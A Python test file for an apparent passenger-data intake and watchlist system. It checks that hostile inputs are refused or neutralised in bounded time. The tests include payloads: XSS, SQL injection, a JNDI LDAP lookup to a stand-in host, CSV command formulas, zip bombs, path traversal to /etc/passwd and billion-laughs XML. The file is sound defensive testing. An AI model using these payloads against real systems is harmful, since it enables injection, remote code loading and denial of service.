"""Hostile inputs through the house: kept whole, read or refused by name in bounded time, and nobody else is lost."""

from __future__ import annotations

import json
import random
import time
import zipfile
from collections.abc import Callable
from datetime import date
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from fairway import intake
from fairway.intake import ReadBatch
from fairway.messages import read
from fairway.safeguards import Purpose
from fairway.store.records import JourneyRecord
from fairway.worker import machine_act
from tests.intake.conftest import arrive, travellers
from tests.path.pushes import booking, person, push
from tests.web.conftest import signed_in, staffed
from tests.web.invented import Pair, write

__all__ = ["arrive", "signed_in", "staffed", "travellers"]  # fixtures

SECONDS_MAX = 5.0
NEIGHBOUR = push(booking("AB12CD", person("EXAMPLA", "MARTAMRS", "XQ1234567", "04MAR81")))
UNB = b"UNB+IATA:1+QX+ZZGOV+260711:0900+1'"
NAMES = {
    "markup": "<SCRIPT>ALERT(1)</SCRIPT>",
    "image": '"><IMG SRC=X ONERROR=ALERT(1)>',
    "template": "{{7*7}}{% DEBUG %}${7*7}",
    "sql": "X' OR '1'='1'; DROP TABLE STORE_HIT;--",
    "lookup": "${JNDI:LDAP://EXAMPLE.ORG/A}",
    "formula": "=CMD|' /C CALC'!A0",
    "directory": "*)(UID=*))(|(UID=*",
}


def named(surname: str) -> bytes:
    released = "".join("?" + sign if sign in "?+:'*" else sign for sign in surname)
    return push(booking("EF34GH", person(released, "ANA")), reference="2")


def zipped(content: bytes, name: str = "push.edi") -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return packed.getvalue()


HOSTILE: dict[str, bytes] = {
    "H01 a segment of eight megabytes": UNB + b"FTX+" + b"A" * 8_000_000,
    "H03 a million empty segments": UNB + b"'" * 1_000_000,
    "H03 a million elements": UNB + b"FTX" + b"+" * 1_000_000 + b"'",
    "H04 a thousand interchanges in each other": UNB * 1_000,
    "H04 a hundred thousand groups in each other": UNB + b"UNG+PNRGOV+QX+ZZ+260711:0900+1'" * 100_000,
    "H04 counts that are wrong": NEIGHBOUR.replace(b"UNT+9", b"UNT+999999999999999999999").replace(
        b"AB12CD", b"ZZ99ZZ"
    ),
    "H05 a service string of one sign": b"UNA''''''" + UNB,
    "H06 releases without end": UNB + b"FTX+" + b"?" * 1_000_001,
    "H07 UTF-16": b"\xff\xfe" + NEIGHBOUR.decode().encode("utf-16-le"),
    "H07 overlong UTF-8": UNB + b"FTX+\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf\xed\xa0\x80'",
    "H08 reversed writing": named("\u202eGNIRTS\u2066\u200b\u200d\ufeff"),
    "H08 heaped accents": named("Z" + "\u0335\u0489" * 2_000),
    "H08 control characters": named("A\x00B\x1b[2JC\x07\r\nUNZ"),
    **{f"H10 {kind}": named(text) for kind, text in NAMES.items()},
    "H11 billion laughs": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'>"
    + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10 if n else b"&a;" * 10) for n in range(9))
    + b"]><IATA_PNRGOV_NotifRQ>&a8;</IATA_PNRGOV_NotifRQ>",
    "H11 depth": b"<IATA_PNRGOV_NotifRQ>" + b"<a>" * 500_000,
    "H11 attributes": b"<IATA_PNRGOV_NotifRQ " + b"".join(b"a%d='1' " % n for n in range(100_000)) + b"/>",
    "H12 a bomb": zipped(b"0" * 20_000_000),
    "H12 an archive with a path outside": zipped(NEIGHBOUR, "../../../../etc/passwd"),
    "H13 JSON of great depth": b"[" * 1_000_000,
    "H16 a document": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
    + b"\x00\xff" * 50_000,
    "H16 a picture of a million by a million": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x0fB@\x00\x0fB@\x08\x06\x00\x00\x00",
    "H16 a program": b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 100,
}


@pytest.mark.parametrize("attack", HOSTILE)
def test_kept_whole_and_nobody_else_is_lost(
    arrive: Callable[..., ReadBatch], travellers: Callable[[], list[JourneyRecord]], attack: str
) -> None:
    from django.db import connection

    from fairway.store.archive import archive

    content = HOSTILE[attack]
    began = time.process_time()
    arrive(content, NEIGHBOUR)
    spent = time.process_time() - began

    assert spent < SECONDS_MAX
    ledger = intake.balance()
    assert (ledger.received, ledger.waiting) == (2, 0)
    assert any("EXAMPLA" in str(each) for each in travellers())
    with connection.cursor() as cursor:
        cursor.execute("SELECT id, received_day, sealed FROM store_transmission ORDER BY id LIMIT 1")
        identifier, day, sealed = cursor.fetchone()
    assert archive().receipt_key(day).open("store_transmission", identifier, bytes(sealed)) == content


def test_any_service_string_gives_a_reading() -> None:
    """H05: all pairs of equal signs, and ten thousand strings of any six bytes."""
    chance = random.Random(5)
    pairs = [bytes(b"+:.?*'"[n] if n not in (i, j) else 65 for n in range(6)) for i in range(6) for j in range(6)]
    anything = [chance.randbytes(6) for _ in range(10_000)]
    for advice in [*pairs, *anything]:
        read(b"UNA" + advice + NEIGHBOUR.partition(b"'")[2][:400])


def test_a_released_terminator_ends_nothing() -> None:
    """H06: the name holds the sign that ends segments; whoever comes after it is still there."""
    reading = read(
        push(booking("EF34GH", person("O?'REILLA", "ANA", reference="1"), person("NEXT", "BEA", reference="2")))
    )

    [message] = reading.messages
    assert [each.surname for each in message.bookings[0].travellers] == ["O'REILLA", "NEXT"]


@pytest.mark.parametrize("attack", [each for each in HOSTILE if each.startswith(("H08", "H10"))])
def test_no_finding_holds_a_character_of_the_sender(attack: str) -> None:
    """H08: what is logged and shown of a bad message is made of our own words and shapes."""
    for finding in read(HOSTILE[attack]).all_findings():
        assert str(finding).isprintable()
        assert not any(text in str(finding) for text in NAMES.values())


def test_no_export_holds_what_a_sender_wrote(arrive: Callable[..., ReadBatch], house: Path, tmp_path: Path) -> None:
    """H09: the audit log, the figures of a carrier and the quarantine, as they leave the house."""
    from fairway import carriers, oversight
    from fairway.kit.clock import utc_now
    from fairway.safeguards import Act, Actor, Role

    arrive(*(named(text) for text in NAMES.values()), b"=cmd|' /C calc'!A0")
    daniel = Actor("Daniel", Role.DATA_PROTECTION_OFFICER)
    sofia = Actor("sofia", Role.SUPERVISOR)
    lines = oversight.read_audit(Act(daniel, Purpose.OVERSIGHT, at=utc_now(), ground="t"), most=100)
    waiting = intake.quarantine(Act(sofia, Purpose.ADMINISTRATION, at=utc_now(), ground="t"))
    quality = carriers.quality(Act(daniel, Purpose.OVERSIGHT, at=utc_now(), ground="t"))
    said = "\n".join(map(str, [*lines, *waiting, quality])).upper()

    assert all(text not in said for text in [*NAMES.values(), "=CMD"])


@pytest.mark.parametrize("kind", NAMES)
def test_a_page_shows_hostile_text_as_text(signed_in: Callable[..., Any], kind: str) -> None:
    """H10: on the card of a hit, where most text of a sender is shown."""
    text = NAMES[kind]
    pair = Pair(("XY", "301", "QCC", "QAA"), 45, text, text, "1971-03-29", "F", "XQA", text, "A-7001", (text, "Ana Exampla"),
                ("1971-03-29",), "female", "XQA", text)  # fmt: skip
    [code] = write((pair,))
    analyst = signed_in("Ana")
    for page in (f"/hits/{code}/", "/queue/"):
        content = analyst.get(page).content.decode()
        assert "<SCRIPT>ALERT" not in content.upper()
        assert "<IMG SRC" not in content.upper()
        assert "49{" not in content
        assert "DROP TABLE STORE_HIT" not in content or "&#x27;" in content
    assert analyst.get(f"/hits/{code}/").status_code == 200


def lists_in_archive(content: bytes, names: tuple[str, ...] = ("SDN.CSV", "ALT.CSV", "sdn.csv", "alt.csv")) -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return packed.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<!DOCTYPE html><html><body><form action='/login'>Please sign in</form></body></html>",
        lists_in_archive(b"0" * 200_000_000),
        lists_in_archive(zipped(b"0" * 10_000_000)),
        zipped(b"x", "../../sdn.csv"),
        lists_in_archive(b"1,A\n")[:-30],
    ],
    ids=["empty", "a page to sign in", "bomb", "nested", "path outside", "cut"],
)
@pytest.mark.parametrize("source", ["ofac_sdn", "un_sc", "eu_fsf", "uk_sanctions", "ch_seco"])
def test_a_bomb_instead_of_a_list_is_refused_in_a_second(house: Path, source: str, data: bytes) -> None:
    """H12, H17."""
    from fairway import watchlists
    from fairway.kit.refusals import Refused

    began = time.process_time()
    with pytest.raises(Refused):
        watchlists.load(machine_act(Purpose.LIST_KEEPING), source, data)
    assert time.process_time() - began < 2.0


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000,
        b'{"outcome":' * 50_000,
        b'{"outcome": "no_match", "reason": "x", "traveller_version": ' + b"9" * 100_000 + b"}",
        b'{"outcome": "no_match", "reason": "x", "traveller_version": NaN}',
        b'{"outcome": "no_match", "reason": "x", "traveller_version": 1e999}',
        b'{"outcome": {"$gt": ""}, "reason": ["x"], "traveller_version": "1"}',
        b"\xff\xfe\x00",
        b"null",
        b'{"outcome": "\\ud800", "reason": "\\u0000", "traveller_version": 1}',
    ],
    ids=["depth", "open objects", "digits", "NaN", "infinity", "other kinds", "no text", "null", "surrogate"],
)
def test_hostile_json_decides_nothing(staffed: Path, body: bytes) -> None:
    """H13."""
    from django.test import Client

    from fairway import staff
    from fairway.kit.clock import utc_now
    from fairway.safeguards import Act

    pair = Pair(
        ("XY", "301", "QCC", "QAA"),
        45,
        "EXAMPLA",
        "ANA",
        "1971-03-29",
        "F",
        "XQA",
        "X1",
        "A-1",
        ("Ana Exampla",),
        ("1971-03-29",),
    )
    [code] = write((pair,))
    token = staff.access_token(Act(staff.OPERATOR, Purpose.ADMINISTRATION, at=utc_now(), ground="t"), "Ana", "test")
    answer = Client(SERVER_NAME="localhost").post(
        f"/rest/hits/{code}/decision",
        body,
        content_type="application/json",
        headers={"Authorization": f"Bearer {token}", "Fairway-Purpose": "terrorism"},
    )

    assert 400 <= answer.status_code < 500
    assert isinstance(json.loads(answer.content), dict)


ADVERSARIAL = (
    "A" * 10_000,
    "AB" * 5_000,
    " ".join("AB"[n % 2] * (n % 7 + 1) for n in range(500)),
    " ".join(f"N{n}" for n in range(500)),
    "MOHAMMED " * 300,
    "'- " * 3_000,
    "\u0627\u0644" * 2_000,
    "Z\u0335\u0489" * 2_000,
    "\u5f20" * 3_000,
)


def test_no_pair_of_names_is_slow_to_compare() -> None:
    """H14."""
    from fairway.comparison import ComparedTraveller, ListedPerson, PersonName, compare

    slowest = 0.0
    for mine in ADVERSARIAL:
        for theirs in ADVERSARIAL:
            traveller = ComparedTraveller(
                names=(PersonName(surname=mine, given_names=theirs),), birth_date="1971-03-29"
            )
            listed = ListedPerson(entry_id="L", names=(theirs, mine), birth_dates=("1971-03-29",))
            began = time.process_time()
            compare(traveller, listed)
            slowest = max(slowest, time.process_time() - began)

    assert slowest < 1.0


@pytest.mark.parametrize(
    "born",
    ["31SEP80", "29FEB81", "00XXX00", "99DEC99", "000000", "32JAN80", "-1JAN80", "1", "9" * 200, "0000-00-00", ""],
)
def test_an_impossible_date_loses_nobody(born: str) -> None:
    """H15."""
    reading = read(
        push(booking("EF34GH", person("EXAMPLA", "ANA", "XQ1234567", born))),
        received_on=date(2026, 7, 11),
    )

    [message] = reading.messages
    assert [each.surname for each in message.bookings[0].travellers] == ["EXAMPLA"]


def test_an_old_push_in_a_new_envelope_changes_nothing(
    arrive: Callable[..., ReadBatch], travellers: Callable[[], list[JourneyRecord]]
) -> None:
    """H18: the booking had two people, then one; the first push comes again, sent now."""
    two = (person("EXAMPLA", "MARTA", reference="1"), person("INVENTA", "LUIS", reference="2"))
    old = push(booking("AB12CD", *two, changed="100726:1000"), sent="260710:1001", reference="1")
    new = push(booking("AB12CD", two[0], changed="110726:1000"), sent="260711:1001", reference="2")
    arrive(old, new)
    before = sorted(map(str, travellers()))
    arrive(push(booking("AB12CD", *two, changed="100726:1000"), sent="260712:0700", reference="77"))

    assert sorted(map(str, travellers())) == before
